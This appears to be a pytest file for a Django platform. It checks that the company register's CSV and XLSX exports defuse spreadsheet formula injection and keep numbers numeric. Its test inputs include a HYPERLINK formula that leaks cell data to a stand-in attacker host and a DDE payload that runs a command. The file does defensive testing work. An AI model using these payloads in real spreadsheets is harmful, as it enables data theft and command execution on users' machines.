"""The register's exports carry no live formula, and numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from rse_platform.tenants.roles import Role
from tests.factories import CompanyFactory

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def _export(client, tenant, fmt):
    return client.get(reverse("company_export", kwargs={"tenant_slug": tenant.slug, "fmt": fmt}))


@pytest.fixture
def manager(client, tenant, make_person):
    client.force_login(make_person(tenant, Role.MANAGER))
    return client


@pytest.mark.parametrize("prefix", PREFIXES)
def test_it_neutralises_a_formula_in_the_csv(manager, tenant, prefix):
    name = f'{prefix}HYPERLINK("https://evil.example/?leak="&A2;"Cliquez")'
    CompanyFactory(tenant=tenant, name=name, headcount=12, annual_revenue=Decimal("1500000.50"))
    response = _export(manager, tenant, "csv")
    assert response["Content-Disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["raison_sociale"] == f"'{name}"
    assert (row["effectif"], row["chiffre_affaires"]) == ("12", "1500000,50")


@pytest.mark.parametrize("prefix", PREFIXES)
def test_it_neutralises_a_formula_in_the_xlsx(manager, tenant, prefix):
    name = f"{prefix}cmd|' /C calc'!A0"
    CompanyFactory(tenant=tenant, name=name, headcount=12, annual_revenue=Decimal("1500000.50"))
    sheet = load_workbook(io.BytesIO(_export(manager, tenant, "xlsx").content)).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    # XML reads a carriage return back as a line feed: the apostrophe is what matters.
    assert cells["raison_sociale"].value == f"'{name}".replace("\r", "\n")
    assert cells["raison_sociale"].data_type == "s"
    assert cells["effectif"].value == 12 and cells["effectif"].data_type == "n"
    assert cells["chiffre_affaires"].value == 1500000.5
    assert cells["chiffre_affaires"].data_type == "n"


def test_ordinary_names_are_left_alone(manager, tenant):
    CompanyFactory(tenant=tenant, name="L'Atelier - Bois & Co")
    sheet = load_workbook(io.BytesIO(_export(manager, tenant, "xlsx").content)).active
    assert sheet.cell(row=2, column=1).value == "L'Atelier - Bois & Co"
